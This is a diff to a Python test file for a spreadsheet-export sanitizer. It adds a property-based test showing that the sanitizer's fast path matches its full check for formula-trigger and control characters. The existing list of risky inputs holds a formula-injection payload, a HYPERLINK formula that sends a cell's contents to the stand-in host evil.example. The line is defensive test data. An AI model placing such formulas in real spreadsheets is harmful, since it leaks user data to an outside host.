@@ -2,12 +2,15 @@
 from __future__ import annotations
 
 import io
+import re
 from datetime import date
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
-from westlake_feedback.exports_safety import safe_cell
+from westlake_feedback.exports_safety import is_risky, safe_cell
 
 RISKY = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
@@ -59,3 +62,13 @@ def test_written_cells_are_strings_not_formulas():
     for (cell,), text in zip(loaded.iter_rows(), RISKY):
         assert cell.data_type == "s"
         assert cell.value == "'" + text
+
+
+ALPHABET = "=+-@\t\r\n＝＋－＠ \u00a0\u3000\u200b\ufeff\x00\x01\x0b\x1f\ufffeab1'中文"
+
+
+@given(st.text(alphabet=ALPHABET, max_size=8) | st.text(max_size=8))
+def test_the_fast_path_changes_nothing(text):
+    """safe_cell skips ordinary text with one regex scan: same result as the full check."""
+    cleaned = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", text)
+    assert safe_cell(text) == ("'" + cleaned if is_risky(cleaned) else cleaned)
